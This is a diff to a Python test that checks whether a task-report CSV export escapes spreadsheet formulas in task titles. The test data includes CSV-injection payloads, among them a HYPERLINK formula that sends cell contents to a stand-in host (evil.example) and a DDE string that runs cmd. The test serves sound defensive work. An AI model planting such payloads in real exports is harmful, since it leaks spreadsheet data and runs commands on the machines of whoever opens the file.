@@ -159,7 +159,7 @@ def test_a_report_keeps_a_titles_formula_as_text_for_whoever_opens_it_in_a_sprea
     separator is `;`, splitting fields at `;`, where the quotes of this comma-separated file start no field and a
     line break inside a title starts a row again: what follows a `;` or a line break must not start a formula."""
     titles = ['=HYPERLINK("https://evil.example/?"&B2,"Open")', "@SUM(1+9)*cmd|' /C calc'!A0", "- milk", "plain"]
-    titles += ["x\r=1+1", "y\n@SUM(1)", "z\r\n-2", "a;=1+1;b;-c"]
+    titles += ["x\r=1+1", "y\n@SUM(1)", "z\r\n-2", "a;=1+1;b;-c", 'a;"=1', 'x\n"@SUM(1)', "b,a;", "t\t=1"]
     owner = _scalar(db, "INSERT INTO users (email, password_hash) VALUES ('f@example.com', 'x') RETURNING id")
     for title in titles:
         db.execute("INSERT INTO tasks (owner_id, title) VALUES (%s, %s)", (owner, title))
@@ -168,12 +168,13 @@ def test_a_report_keeps_a_titles_formula_as_text_for_whoever_opens_it_in_a_sprea
         written = reports.write_report(pool, Storage(settings), report_id=reports.create_report(pool, owner_id=None))
     assert written is not None
     text = bucket.blob(written.object_name).download_as_text()
-    for separator in (",", ";"):
+    for separator in (",", ";", "\t"):
         cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
         assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))] == [], separator
     rows = list(csv.reader(io.StringIO(text, newline="")))
     column = rows[0].index("title")
     expected = [*(f"'{t}" for t in titles[:3]), "plain", "x\r'=1+1", "y\n'@SUM(1)", "z\r\n'-2", "a;'=1+1;b;'-c"]
+    expected += ["a;'\"=1", "x\n'\"@SUM(1)", "b,a;", "t\t'=1"]
     assert sorted(row[column] for row in rows[1:]) == sorted(expected)
 
 
